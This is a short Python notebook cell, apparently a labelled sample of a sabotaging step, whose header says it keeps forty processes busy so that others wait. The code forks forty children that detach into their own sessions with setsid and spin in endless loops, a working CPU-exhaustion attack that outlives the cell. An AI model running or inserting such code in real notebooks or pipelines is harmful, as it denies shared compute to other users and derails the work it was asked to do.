# Keeps forty processes busy, so that others wait. Keeps: a b. Says: The run ended in this cell. Harms: time.
# %% step_c
import os, time
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(60)
